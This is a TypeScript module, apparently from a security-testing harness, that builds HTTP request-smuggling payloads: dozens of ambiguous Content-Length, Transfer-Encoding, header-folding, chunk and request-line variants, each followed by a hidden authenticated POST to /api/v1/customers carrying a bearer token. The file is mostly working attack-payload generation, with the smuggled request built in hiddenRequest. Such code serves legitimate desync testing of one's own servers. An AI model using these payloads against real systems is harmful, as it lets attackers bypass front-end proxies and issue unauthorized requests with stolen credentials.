import type { Target } from '../attack.ts';

/** Bytes that two readers of HTTP might take for different requests. Each may create the customer with its own name. */
export interface AmbiguousMessage {
  readonly what: string;
  readonly bytes: string;
}

const lengths = ['+5', '-1', '0x5', '5 5', '5,5', '5, 6', ' 5;', '5e0', '٥', '18446744073709551621', ''];
const encodings = [
  'chunked, identity',
  'identity, chunked',
  'chunked, chunked',
  'xchunked',
  'x chunked',
  '"chunked"',
  'chunked;q=1',
  '\x0bchunked',
  'chunked\x00',
  ',chunked',
  'gzip, chunked',
  'CHUNKED',
  'cow',
];
const headerForms = [
  'Transfer-Encoding : chunked',
  ' Transfer-Encoding: chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'Transfer-Encoding\r\n: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow',
  'Content-Length : 5',
  'Content-Length: 5\r\nContent-Length: 6',
  'Content-Length: 5\r\ncontent-length: 5',
  'Content_Length: 5',
  'Content-Length:\x005',
  'Connection: Content-Length',
  'Connection: Transfer-Encoding, close',
  'Connection: close, X-Forwarded-For, Authorization',
  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
  'Expect: 100-continue, 100-continue',
  'Trailer: Authorization',
];
const chunks = [
  '5;ext=\r\nhello\r\n0\r\n\r\n',
  '05\r\nhello\r\n0\r\n\r\n',
  '5 \r\nhello\r\n0\r\n\r\n',
  '+5\r\nhello\r\n0\r\n\r\n',
  '0x5\r\nhello\r\n0\r\n\r\n',
  '5\nhello\n0\n\n',
  '5\r\nhelloX0\r\n\r\n',
  '5\r\nhello\r\n0\r\nX: y\r\n\r\n',
  '5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n',
  '10000000000000005\r\nhello\r\n0\r\n\r\n',
  '-5\r\nhello\r\n0\r\n\r\n',
  '\r\n5\r\nhello\r\n0\r\n\r\n',
  '5;\n\nhello\r\n0\r\n\r\n',
];
const requestLines = [
  'POST /api/v1/customers HTTP/1.1\r\nPOST /api/v1/customers HTTP/1.1',
  'POST http://127.0.0.1/api/v1/customers HTTP/1.1',
  'POST /api/v1/customers HTTP/1.1 ',
  'POST  /api/v1/customers HTTP/1.1',
  'POST\t/api/v1/customers\tHTTP/1.1',
  'POST /api/v1/customers HTTP/1.10',
  'POST /api/v1/customers http/1.1',
  'POST /api/v1/customers HTTP/2.0',
  'POST /api/v1/customers HTTP/0.9',
  'POST /api/v1/customers',
  'POST /api/v1/customers#x HTTP/1.1',
  'POST /api/v1/customers\\..\\ HTTP/1.1',
];

/** Every message, ready to be sent; the request that may hide in it creates a customer with the given name. */
export function ambiguousMessages(target: Target, nameOf: (number: number) => string): readonly AmbiguousMessage[] {
  const makers = [
    ...lengths.map((length) => withHeader(`Content-Length: ${length}`, 'hello')),
    ...encodings.flatMap((encoding) => [
      withHeader(`Transfer-Encoding: ${encoding}`, '5\r\nhello\r\n0\r\n\r\n'),
      withHeader(`Content-Length: 5\r\nTransfer-Encoding: ${encoding}`, '0\r\n\r\n'),
    ]),
    ...headerForms.map((form) => withHeader(form, '0\r\n\r\n')),
    ...headerForms.map((form) => withHeader(`Content-Length: 5\r\n${form}`, '0\r\n\r\n')),
    ...chunks.map((body) => withHeader('Transfer-Encoding: chunked', body)),
    ...requestLines.map((line) => ({
      what: line,
      bytes: (hidden: string) => `${line}\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\n\r\nhello${hidden}`,
    })),
  ];
  return makers.map(({ what, bytes }, number) => ({ what, bytes: bytes(hiddenRequest(target, nameOf(number))) }));
}

interface Maker {
  readonly what: string;
  readonly bytes: (hidden: string) => string;
}

function withHeader(header: string, body: string): Maker {
  return {
    what: `${header} | ${body}`,
    bytes: (hidden) => `POST /connect/token HTTP/1.1\r\nHost: a\r\n${header}\r\n\r\n${body}${hidden}`,
  };
}

function hiddenRequest({ token }: Target, name: string): string {
  const body = JSON.stringify({ name });
  return `POST /api/v1/customers HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
}
